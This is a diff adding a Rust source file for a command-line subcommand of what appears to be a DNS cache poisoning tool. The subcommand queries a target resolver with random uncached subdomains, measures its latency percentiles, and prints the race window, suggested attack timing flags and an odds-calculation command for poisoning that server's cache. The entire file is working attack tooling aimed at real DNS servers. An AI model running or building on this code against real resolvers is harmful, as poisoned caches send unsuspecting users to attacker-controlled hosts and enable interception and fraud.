@@ -0,0 +1,104 @@
+use crate::commands::{positive_seconds, seconds, SubdomainArgs};
+use crate::latency::{measure, percentile, LatencyOptions};
+use std::net::Ipv4Addr;
+use std::time::Duration;
+use structopt::StructOpt;
+
+/// Measures how long the target server takes to resolve uncached names, to time the rounds of an
+/// attack
+#[derive(Debug, StructOpt)]
+pub struct LatencyArgs {
+    /// IP address of the DNS server whose cache will be poisoned
+    #[structopt(long)]
+    target_addr: Ipv4Addr,
+
+    /// Domain to target, e.g. example.com
+    #[structopt(long)]
+    target_domain: String,
+
+    /// Number of uncached names to query
+    #[structopt(long, default_value = "20")]
+    queries: u32,
+
+    /// How long to wait for each answer in seconds before counting the query as failed
+    #[structopt(long, default_value = "2")]
+    timeout: f32,
+
+    /// How long to wait between queries in seconds
+    #[structopt(long, default_value = "0.1")]
+    interval: f32,
+
+    #[structopt(flatten)]
+    subdomains: SubdomainArgs,
+
+    /// Seed for the random subdomains, so that a run can be replayed exactly
+    #[structopt(long)]
+    seed: Option<u64>,
+}
+
+impl LatencyArgs {
+    pub fn run(&self) -> Result<(), String> {
+        let mut options = LatencyOptions::new(self.target_addr, self.target_domain.clone());
+        options.queries = self.queries;
+        options.timeout = positive_seconds("--timeout", self.timeout)?;
+        options.interval = seconds("--interval", self.interval)?;
+        options.subdomains = self.subdomains.options()?;
+        options.seed = self.seed;
+
+        let report = measure(&options)?;
+        println!("Uncached queries: {}", distribution(&report.uncached));
+        println!("Cached queries: {}", distribution(&report.cached));
+        if report.failed > 0 {
+            println!("{} queries failed", report.failed);
+        }
+
+        let (race_window, delay, round_window) = match (
+            report.race_window(),
+            report.suggested_delay(),
+            report.suggested_round_window(),
+        ) {
+            (Some(race_window), Some(delay), Some(round_window)) => {
+                (race_window, delay, round_window)
+            }
+            _ => {
+                println!("No query was answered from the cache, so the race window is unknown");
+                return Ok(());
+            }
+        };
+        println!(
+            "The target server waits about {} on the target domain's nameservers",
+            millis(race_window)
+        );
+        println!(
+            "Suggested attack timing: --delay {:.4} --round-window {:.4}",
+            delay.as_secs_f64(),
+            round_window.as_secs_f64()
+        );
+        println!(
+            "Suggested odds calculation: calc --race-window {:.4} --round-window {:.4}",
+            race_window.as_secs_f64(),
+            round_window.as_secs_f64()
+        );
+        return Ok(());
+    }
+}
+
+/// Describes the spread of the latencies
+fn distribution(samples: &[Duration]) -> String {
+    let describe = |fraction| match percentile(samples, fraction) {
+        None => "-".to_string(),
+        Some(latency) => millis(latency),
+    };
+    return format!(
+        "min {}, median {}, 90th percentile {}, max {} over {} queries",
+        describe(0.0),
+        describe(0.5),
+        describe(0.9),
+        describe(1.0),
+        samples.len()
+    );
+}
+
+fn millis(latency: Duration) -> String {
+    return format!("{:.1}ms", latency.as_secs_f64() * 1000.0);
+}